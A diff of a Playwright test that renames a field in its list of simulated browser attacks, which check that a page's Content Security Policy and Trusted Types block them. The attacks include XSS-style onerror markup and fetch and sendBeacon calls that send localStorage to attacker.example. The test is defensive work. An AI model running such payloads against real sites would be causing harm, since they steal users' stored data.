@@ -20,9 +20,9 @@ async function listViolations(page: Page, attack: () => void): Promise<string[]>
 }
 
 /** Each would write a mark; none appears while the policy works. */
-const attacks: readonly { what: string; directive: string; attack: () => void }[] = [
+const attacks: readonly { description: string; directive: string; attack: () => void }[] = [
   {
-    what: 'a script element with text of its own',
+    description: 'a script element with text of its own',
     directive: 'require-trusted-types-for',
     attack: () => {
       const script = document.createElement('script');
@@ -31,14 +31,14 @@ const attacks: readonly { what: string; directive: string; attack: () => void }[
     },
   },
   {
-    what: 'text that becomes markup',
+    description: 'text that becomes markup',
     directive: 'require-trusted-types-for',
     attack: () => {
       document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.stolen = 1">');
     },
   },
   {
-    what: 'an event handler in markup that was parsed elsewhere',
+    description: 'an event handler in markup that was parsed elsewhere',
     directive: 'script-src-attr',
     attack: () => {
       const parsed = new DOMParser().parseFromString(
@@ -49,7 +49,7 @@ const attacks: readonly { what: string; directive: string; attack: () => void }[
     },
   },
   {
-    what: 'the address of a script of another origin',
+    description: 'the address of a script of another origin',
     directive: 'require-trusted-types-for',
     attack: () => {
       const script = document.createElement('script');
@@ -58,7 +58,7 @@ const attacks: readonly { what: string; directive: string; attack: () => void }[
     },
   },
   {
-    what: 'a policy of its own for trusted types',
+    description: 'a policy of its own for trusted types',
     directive: 'trusted-types',
     attack: () => {
       const { trustedTypes } = window as unknown as {
@@ -68,14 +68,14 @@ const attacks: readonly { what: string; directive: string; attack: () => void }[
     },
   },
   {
-    what: 'text that is evaluated',
+    description: 'text that is evaluated',
     directive: 'require-trusted-types-for',
     attack: () => {
       (window as unknown as { stolen: unknown }).stolen = new Function('return { ...localStorage }')();
     },
   },
   {
-    what: 'a call to another origin',
+    description: 'a call to another origin',
     directive: 'connect-src',
     attack: () => {
       void fetch('https://attacker.example/', { method: 'POST', body: JSON.stringify(localStorage) }).catch(
@@ -84,14 +84,14 @@ const attacks: readonly { what: string; directive: string; attack: () => void }[
     },
   },
   {
-    what: 'a beacon to another origin',
+    description: 'a beacon to another origin',
     directive: 'connect-src',
     attack: () => {
       navigator.sendBeacon('https://attacker.example/', JSON.stringify(localStorage));
     },
   },
   {
-    what: 'a form that is sent',
+    description: 'a form that is sent',
     directive: 'form-action',
     attack: () => {
       const form = document.createElement('form');
@@ -122,8 +122,8 @@ test('the policy guards local storage: no foreign script runs, and nothing is se
   });
   await page.goto('/listings');
   await expect(page.getByRole('heading', { level: 1, name: 'My Listings' })).toBeVisible();
-  for (const { what, directive, attack } of attacks)
-    await test.step(what, async () => {
+  for (const { description, directive, attack } of attacks)
+    await test.step(description, async () => {
       expect(await listViolations(page, attack)).toContain(directive);
     });
   expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
